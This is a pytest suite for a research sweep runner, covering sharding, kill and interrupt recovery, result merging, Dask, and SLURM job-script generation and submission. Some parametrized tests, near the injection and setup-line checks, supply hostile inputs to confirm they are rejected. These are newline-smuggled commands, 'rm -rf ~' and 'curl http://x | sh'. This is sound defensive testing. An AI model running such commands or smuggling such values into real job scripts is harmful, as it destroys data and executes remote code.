"""Sweeps at scale: shards, concurrent writers, kills and interrupts, merge and status, Dask,
and a real SLURM job array."""
import os
import re
import shlex
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from experiments import get_study
from results.store import load, merge
from runner.arrays import shard_from as shard_from_slurm
from runner.cli import app
from runner.grid import GridError, expand, parse_shard, shard
from runner.slurm import array_chunks

RUNNER = Path(sys.executable).with_name("runner")
# A sweep of 24 short runs of the batch-size study (about 1 s on 2 workers), long enough that
# a signal sent once a few runs are written lands while the others still run. Its results are
# a few kB: with 2000-epoch curves (80 kB each) a SIGINT hung the sweep's shutdown once in
# about 25 tries, not yet understood (suspected: a worker stopped mid-send of a result larger
# than a pipe's buffer).
SWEEP = ["batch-size", "--grid", "N=8192", "--grid", "n=8", "--grid", "epochs=100",
         "--grid", "batch_size=1,2,4,8,16,32,64,full", "--seeds", "3"]
SAME = ["run_id", "sweep_id", "status", "seed", "batch_size", "final_loss", "final_rel_loss",
        "mean_rel_loss_last50", "epochs_to_target", "iterations"]  # what does not depend on timing


def results(out: Path) -> pd.DataFrame:
    return load(out)[SAME].sort_values("run_id").reset_index(drop=True)


def run(*args, **kwargs):
    return subprocess.run([RUNNER, *map(str, args)], capture_output=True, text=True, timeout=600, **kwargs)


@pytest.fixture(scope="module")
def reference(tmp_path_factory) -> Path:
    """The sweep run whole, in one process."""
    out = tmp_path_factory.mktemp("ref") / "out"
    done = run("sweep", *SWEEP, "--workers", 1, "--out", out)
    assert done.returncode == 0, done.stderr
    return out


def test_shards_partition_the_sweep():
    specs = expand(get_study("batch-size"), {}, 3)
    parts = [shard(specs, i, 4) for i in range(4)]
    assert sorted(s.run_id for p in parts for s in p) == sorted(s.run_id for s in specs)
    assert max(map(len, parts)) - min(map(len, parts)) <= 1
    assert parse_shard("3/4") == (3, 4)
    for bad in ("4/4", "-1/4", "1", "a/b", "0/0"):
        with pytest.raises(GridError):
            parse_shard(bad)
    env = {"SLURM_ARRAY_TASK_ID": "12", "SLURM_ARRAY_TASK_MIN": "10", "SLURM_ARRAY_TASK_COUNT": "5"}
    assert shard_from_slurm(env) == (2, 5) and shard_from_slurm({}) is None
    assert shard_from_slurm({**env, "SLURM_ARRAY_TASK_ID": "16", "SLURM_ARRAY_TASK_STEP": "2"}) == (3, 5)


@pytest.mark.parametrize("task, count, reason", [("7", "4", "no shard I/N"), ("abc", "4", "not integers"),
                                                 ("-1", "4", "no shard I/N"), ("0", "0", "no shard I/N")])
def test_a_shard_from_the_environment_is_range_checked(tmp_path, task, count, reason):
    done = run("sweep", "gd-1d", "--out", tmp_path / "out",
               env={**os.environ, "SLURM_ARRAY_TASK_ID": task, "SLURM_ARRAY_TASK_COUNT": count})
    assert done.returncode == 2 and reason in done.stderr and done.stderr.count("\n") == 1, done.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("option, value", [("--partition", "short\ntouch PWNED"), ("--time", "1:00\rid"),
                                           ("--mem", "4G\n#!"), ("--account", "a b"), ("--qos", "x\x00"),
                                           ("--gres", "gpu:1\nrm -rf ~"), ("--constraint", "avx\ttouch x"),
                                           ("--sbatch", "#SBATCH --mail-type=END\rtouch PWNED")])
def test_no_value_can_inject_a_line_into_a_job_script(tmp_path, option, value):
    result = CliRunner().invoke(app, ["slurm", "gd-1d", "--array-size", "2", option, value,
                                      "--out", str(tmp_path / "out")])
    assert result.exit_code == 2 and result.output.startswith(f"error: {option} ") and \
        result.output.count("\n") == 1, result.output
    assert not (tmp_path / "out").exists()
    newline = CliRunner().invoke(app, ["slurm", "gd-1d", "--array-size", "2", "--out", str(tmp_path / "o\nut")])
    assert newline.exit_code == 2 and "no control character" in newline.output


def test_job_scripts_quote_every_path_and_exec_the_runner(tmp_path):
    out = tmp_path / 'my "results" dir'
    result = CliRunner().invoke(app, ["slurm", "gd-1d", "--array-size", "2", "--out", str(out)])
    assert result.exit_code == 0, result.output
    for script in ("warmup.sbatch", "array-0.sbatch"):
        text = (out / "slurm" / script).read_text()
        assert f'#SBATCH --output="{str(out).replace(chr(34), chr(92) + chr(34))}/slurm/logs/' in text
        assert "#SBATCH --signal=B:TERM@120" in text  # SIGTERM before the time limit, to the batch shell
        last = text.strip().splitlines()[-1]
        assert last.startswith("exec ") and shlex.split(last)[shlex.split(last).index("--out") + 1] == str(out) \
            if "sweep" in last else last.startswith("exec ")


def fake_sbatch(tmp_path, script: str) -> dict:
    """The environment with an ``sbatch`` on PATH that runs ``script`` (bash)."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    (bin_dir / "sbatch").write_text("#!/bin/bash\n" + script)
    (bin_dir / "sbatch").chmod(0o755)
    return {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}"}


def test_submit_errors_are_one_line_and_status_shows_a_submitted_sweep_as_pending(tmp_path):
    out = tmp_path / "out"
    args = ["slurm", "gd-1d", "--grid", "lr=0.1,0.2", "--array-size", 2, "--out", out, "--submit"]
    nothing = run(*args, env={**os.environ, "PATH": str(Path(sys.executable).parent)})  # no sbatch on PATH
    assert nothing.returncode == 1 and nothing.stderr.startswith("error: sbatch not found") \
        and nothing.stderr.count("\n") == 1, nothing.stderr
    refusing = fake_sbatch(tmp_path, 'echo "sbatch: error: Batch job submission failed: Invalid partition '
                                     'name specified" >&2; exit 1')
    refused = run(*args, env=refusing)
    assert refused.returncode == 1 and refused.stderr == ("error: sbatch refused " + str(out / "slurm" / "warmup.sbatch")
                                                          + ": sbatch: error: Batch job submission failed: Invalid "
                                                            "partition name specified\n"), refused.stderr
    assert "no sweep manifests" in run("status", out).stderr  # nothing was submitted
    counting = fake_sbatch(tmp_path, 'n=$(cat "$0.n" 2>/dev/null || echo 41); echo $((n + 1)) > "$0.n"; '
                                     'echo $((n + 1))')
    submitted = run(*args, env=counting)
    assert submitted.returncode == 0 and "submitted: warm-up 42, arrays 43" in submitted.stdout, submitted.stderr
    status = run("status", out)
    assert status.returncode == 1 and "squeue --jobs 42,43]: 2 runs: 0 ok, 0 diverged, 0 failed, 0 missing, " \
        "2 pending" in status.stdout, status.stdout + status.stderr


def test_arrays_are_split_at_max_array_size():
    assert array_chunks(2500, 1001) == [(0, 1001), (1001, 1001), (2002, 498)]
    assert array_chunks(4, 1001) == [(0, 4)]


def test_four_concurrent_shards_equal_the_whole_sweep(tmp_path, reference):
    out = tmp_path / "out"
    procs = [subprocess.Popen([RUNNER, "sweep", *SWEEP, "--workers", "1", "--out", out, "--shard", f"{i}/4"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for i in range(4)]
    assert all(p.wait(timeout=600) == 0 for p in procs), [p.stderr.read() for p in procs]
    pd.testing.assert_frame_equal(results(out), results(reference))
    assert len(list((out / "runs").glob("*.parquet"))) == 24  # one file per run, never shared
    assert run("status", out).returncode == 0


def test_sigkill_then_rerun_equals_an_uninterrupted_sweep(tmp_path, reference):
    out = tmp_path / "out"
    proc = subprocess.Popen([RUNNER, "sweep", *SWEEP, "--workers", "2", "--out", out],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    deadline = time.time() + 300
    while len(list((out / "runs").glob("*.parquet"))) < 4 and time.time() < deadline:
        time.sleep(0.05)
    os.killpg(proc.pid, signal.SIGKILL)  # the sweep and its workers, mid-write or not
    proc.wait()
    partial = len(list((out / "runs").glob("*.parquet")))
    assert 4 <= partial < 24
    pd.read_parquet(out / "runs")  # readable as it is: temporary files are hidden
    done = run("sweep", *SWEEP, "--workers", 2, "--out", out)
    assert done.returncode == 0, done.stderr
    resumed = int(re.search(r"(\d+) done", done.stdout)[1])
    assert partial <= resumed < 24  # the kept runs were skipped, not rerun
    final = pd.read_parquet(out / "runs")
    assert final["run_id"].is_unique and len(final) == 24
    pd.testing.assert_frame_equal(results(out), results(reference))


def test_sigint_stops_cleanly_keeping_finished_runs(tmp_path, reference):
    out = tmp_path / "out"
    proc = subprocess.Popen([RUNNER, "sweep", *SWEEP, "--workers", "2", "--out", out],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    deadline = time.time() + 300
    while len(list((out / "runs").glob("*.parquet"))) < 3 and time.time() < deadline:
        time.sleep(0.05)
    os.killpg(proc.pid, signal.SIGINT)  # Ctrl-C reaches the whole foreground group
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 130 and "interrupted: kept the" in err
    kept = pd.read_parquet(out / "runs")
    assert kept["run_id"].is_unique and set(kept["status"]) == {"ok"}
    assert run("sweep", *SWEEP, "--workers", 2, "--out", out).returncode == 0
    pd.testing.assert_frame_equal(results(out), results(reference))


def test_merge_compacts_and_keeps_the_data(tmp_path, reference):
    out = tmp_path / "out"
    shutil.copytree(reference, out)
    before_runs, before_curves = pd.read_parquet(out / "runs"), pd.read_parquet(out / "curves")
    counts = merge(out)
    assert counts == {"curves": (24, 1), "runs": (24, 1)}
    key = ["run_id"]
    pd.testing.assert_frame_equal(pd.read_parquet(out / "runs").sort_values(key).reset_index(drop=True),
                                  before_runs.sort_values(key).reset_index(drop=True))
    ckey = ["run_id", "epoch"]
    pd.testing.assert_frame_equal(pd.read_parquet(out / "curves").sort_values(ckey).reset_index(drop=True),
                                  before_curves.sort_values(ckey).reset_index(drop=True))
    assert pq.read_schema(next((out / "runs").glob("*.parquet"))) == pq.read_schema(next((reference / "runs").glob("*.parquet")))
    # a --force rerun after the merge writes a second row for its runs; the next merge keeps the newest
    redo = run("sweep", *SWEEP, "--force", "--workers", 1, "--out", out, "--shard", "0/8")
    assert redo.returncode == 0, redo.stderr
    assert len(load(out)) == 24 and load(out)["run_id"].is_unique
    merge(out)
    assert pd.read_parquet(out / "runs")["run_id"].is_unique and len(pd.read_parquet(out / "runs")) == 24


def test_status_counts_against_the_grid(tmp_path):
    out = tmp_path / "out"
    assert run("sweep", *SWEEP, "--workers", 1, "--out", out, "--shard", "0/3").returncode == 0
    status = run("status", out)
    assert status.returncode == 1 and "24 runs: 8 ok, 0 diverged, 0 failed, 16 missing" in status.stdout
    empty = CliRunner().invoke(app, ["status", str(tmp_path / "nothing")])
    assert empty.exit_code == 2


def test_two_thousand_tiny_runs_and_merge(tmp_path):
    out = tmp_path / "out"
    done = run("sweep", "gd-1d", "--grid", "lr=0.001:1:log2000", "--grid", "iterations=10", "--workers", 2, "--out", out)
    assert done.returncode == 0, done.stderr
    assert len(list((out / "runs").glob("*.parquet"))) == 2000
    before = load(out).sort_values("run_id").reset_index(drop=True)
    result = CliRunner().invoke(app, ["merge", str(out)])
    assert result.exit_code == 0 and "runs: 2000 files -> 1" in result.output
    pd.testing.assert_frame_equal(load(out).sort_values("run_id").reset_index(drop=True), before)


def test_dask_local_cluster_equals_the_local_run(tmp_path, reference):
    pytest.importorskip("distributed")
    out = tmp_path / "out"
    done = run("sweep", *SWEEP, "--executor", "dask", "--workers", 2, "--out", out)
    assert done.returncode == 0, done.stderr
    pd.testing.assert_frame_equal(results(out), results(reference))


def slurm_ready() -> bool:
    """A cluster to submit to: sbatch, and SLURM_CONF (scripts/slurm_cluster.sh prints it)."""
    return bool(shutil.which("sbatch") and os.environ.get("SLURM_CONF"))


@pytest.mark.skipif(not slurm_ready() and not os.environ.get("CI"),
                    reason="no SLURM cluster here (sbatch or SLURM_CONF absent); CI starts one "
                           "with scripts/slurm_cluster.sh")
def test_real_slurm_array_equals_the_local_run(tmp_path, reference):
    assert slurm_ready(), "CI must run this test: .ci/run starts a one-node cluster and exports SLURM_CONF"
    out = tmp_path / "out"
    submitted = run("slurm", *SWEEP, "--array-size", 4, "--out", out, "--submit")
    assert submitted.returncode == 0, submitted.stderr
    wait_for_jobs(submitted.stdout)
    logs = "\n".join(p.read_text() for p in sorted((out / "slurm" / "logs").glob("*.out")))
    assert len(list((out / "slurm" / "logs").glob("array-*.out"))) == 4, logs
    status = run("status", out)
    assert status.returncode == 0, status.stdout + logs
    pd.testing.assert_frame_equal(results(out), results(reference))
    assert np.all(load(out)["threads"] == 1)


# A plug-in study from examples/ and a user's .npz data set, through every way a sweep runs.
EXAMPLE = Path(__file__).parents[1] / "examples" / "tabular.py"
OUTCOME = ["run_id", "sweep_id", "status", "seed", "lr", "final_train_loss", "final_test_acc"]


@pytest.fixture(scope="module")
def user_sweeps(tmp_path_factory) -> dict:
    """name -> (sweep arguments, its results run whole in one process)."""
    root = tmp_path_factory.mktemp("user")
    rng = np.random.default_rng(0)
    labels = np.arange(120) % 3
    x = rng.integers(0, 40, size=(120, 6, 6)).astype(np.uint8)
    x[np.arange(120), 2 * labels, :] = 255
    np.savez(root / "own.npz", x=x, y=labels)
    sweeps = {"plugin": [f"{EXAMPLE}:TabularStudy", "--grid", "epochs=10", "--seeds", "2"],
              "npz": ["digits", "--grid", "dataset=file", "--grid", f"data={root / 'own.npz'}", "--grid",
                      "model=dense8", "--grid", "epochs=5", "--grid", "lr=0.001,0.01,0.1"]}
    out = {}
    for name, args in sweeps.items():
        out[name] = root / name
        done = run("sweep", *args, "--workers", 1, "--out", out[name])
        assert done.returncode == 0, done.stderr
    return {name: (args, out[name]) for name, args in sweeps.items()}


def outcome(out: Path) -> pd.DataFrame:
    return load(out)[OUTCOME].sort_values("run_id").reset_index(drop=True)


@pytest.mark.parametrize("name", ["plugin", "npz"])
def test_user_sweeps_in_concurrent_shards_report_and_status(tmp_path, user_sweeps, name):
    args, reference = user_sweeps[name]
    out = tmp_path / "out"
    procs = [subprocess.Popen([RUNNER, "sweep", *args, "--workers", "1", "--out", out, "--shard", f"{i}/2"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for i in range(2)]
    assert all(p.wait(timeout=600) == 0 for p in procs), [p.stderr.read() for p in procs]
    pd.testing.assert_frame_equal(outcome(out), outcome(reference))
    assert run("status", out).returncode == 0
    report = run("report", out)
    assert report.returncode == 0 and "final_test_acc" in report.stdout, report.stderr


@pytest.mark.parametrize("name", ["plugin", "npz"])
def test_user_sweeps_on_dask(tmp_path, user_sweeps, name):
    pytest.importorskip("distributed")
    args, reference = user_sweeps[name]
    done = run("sweep", *args, "--executor", "dask", "--workers", 2, "--out", tmp_path / "out")
    assert done.returncode == 0, done.stderr
    pd.testing.assert_frame_equal(outcome(tmp_path / "out"), outcome(reference))


def wait_for_jobs(stdout: str) -> None:
    """Wait until the jobs that `runner slurm --submit` printed have left the queue."""
    jobs = stdout.split("submitted: warm-up ")[1].split(";")[0].replace("arrays", "").replace(",", " ").split()
    deadline = time.time() + 600
    while time.time() < deadline:
        queued = subprocess.run(["squeue", "-h", "-j", ",".join(jobs)], capture_output=True, text=True).stdout
        if not queued.strip():
            return
        time.sleep(1)


@pytest.mark.skipif(not slurm_ready() and not os.environ.get("CI"),
                    reason="no SLURM cluster here (sbatch or SLURM_CONF absent); CI starts one "
                           "with scripts/slurm_cluster.sh")
def test_user_sweeps_as_real_slurm_arrays(tmp_path, user_sweeps):
    assert slurm_ready(), "CI must run this test: .ci/run starts a one-node cluster and exports SLURM_CONF"
    for name, (args, reference) in user_sweeps.items():
        out = tmp_path / name
        submitted = run("slurm", *args, "--array-size", 2, "--out", out, "--submit")
        assert submitted.returncode == 0, submitted.stderr
        wait_for_jobs(submitted.stdout)
        logs = "\n".join(p.read_text() for p in sorted((out / "slurm" / "logs").glob("*.out")))
        assert run("status", out).returncode == 0, logs
        pd.testing.assert_frame_equal(outcome(out), outcome(reference))


@pytest.mark.skipif(not slurm_ready() and not os.environ.get("CI"),
                    reason="no SLURM cluster here (sbatch or SLURM_CONF absent); CI starts one "
                           "with scripts/slurm_cluster.sh")
def test_a_cancelled_array_task_ends_cleanly(tmp_path):
    """scancel sends SIGTERM (as the time limit and the scripts' --signal do): the task
    writes its one line, keeps its finished runs and leaves no temporary file."""
    assert slurm_ready(), "CI must run this test: .ci/run starts a one-node cluster and exports SLURM_CONF"
    faulty = f"{Path(__file__).with_name('faulty_study.py')}:FaultyStudy"
    marks, out = tmp_path / "marks", tmp_path / "out"
    marks.mkdir()
    args = [faulty, "--grid", "mode=sleep", "--grid", f"marks={marks}", "--grid", "index=0,1,2",
            "--grid", "seconds=0.01,300"]
    submitted = run("slurm", *args, "--array-size", 1, "--out", out, "--submit")
    assert submitted.returncode == 0, submitted.stderr
    deadline = time.time() + 300
    while not list((out / "runs").glob("*.parquet")) or not list(marks.glob("running-*")):
        assert time.time() < deadline, "the array task did not start"
        time.sleep(0.5)
    time.sleep(2)  # a 300 s run is under way
    array = submitted.stdout.split("arrays ")[1].split(";")[0]
    subprocess.run(["scancel", array], check=True)
    wait_for_jobs(submitted.stdout)
    log = next((out / "slurm" / "logs").glob("array-*.out")).read_text()
    kept = re.search(r"^stopped by SIGTERM: kept the (\d+) finished runs; run the same command again to resume$",
                     log, re.MULTILINE)
    assert kept and int(kept[1]) == len(list((out / "runs").glob("*.parquet"))) >= 1, log
    assert "Traceback" not in log and not list(out.rglob(".*.tmp"))
    status = run("status", out)
    assert f"6 runs: {kept[1]} ok, 0 diverged, 0 failed, 0 missing, {6 - int(kept[1])} pending" in status.stdout


def test_setup_lines_prepare_the_jobs_environment_and_its_python_runs_them(tmp_path):
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["slurm", "gd-1d", "--array-size", "2", "--setup", "module load python/3.11",
                                      "--setup", "source ~/venv/bin/activate", "--setup", "export OMP_PLACES=cores",
                                      "--out", str(out)])
    assert result.exit_code == 0, result.output
    home = str(Path.home())
    for script in ("warmup.sbatch", "array-0.sbatch"):
        lines = (out / "slurm" / script).read_text().splitlines()
        start = lines.index("set -eo pipefail")
        assert lines[start + 1 : start + 5] == ["module load python/3.11", f"source {home}/venv/bin/activate",
                                                "export OMP_PLACES=cores", "set -u"]
        assert lines[-1].startswith("exec python3 -m runner ")  # the environment's Python, after the setup
        assert subprocess.run(["bash", "-n", str(out / "slurm" / script)]).returncode == 0
    given = CliRunner().invoke(app, ["slurm", "gd-1d", "--array-size", "2", "--setup", "module load x",
                                     "--python", "/opt/py/bin/python3", "--out", str(tmp_path / "o2")])
    assert given.exit_code == 0
    assert (tmp_path / "o2" / "slurm" / "array-0.sbatch").read_text().splitlines()[-1].startswith(
        "exec /opt/py/bin/python3 -m runner ")


@pytest.mark.parametrize("line", ["module load x; touch PWNED", "curl http://x | sh", "source $(evil)",
                                  "module load `id`", "export A=1 && id", "rm -rf ~", "", "conda activate a\nid",
                                  "export not-a-name"])
def test_a_setup_line_is_one_plain_command(tmp_path, line):
    result = CliRunner().invoke(app, ["slurm", "gd-1d", "--array-size", "2", "--setup", line, "--out",
                                      str(tmp_path / "out")])
    assert result.exit_code == 2 and result.output.startswith("error: --setup ") and \
        result.output.count("\n") == 1, result.output
    assert not (tmp_path / "out").exists()
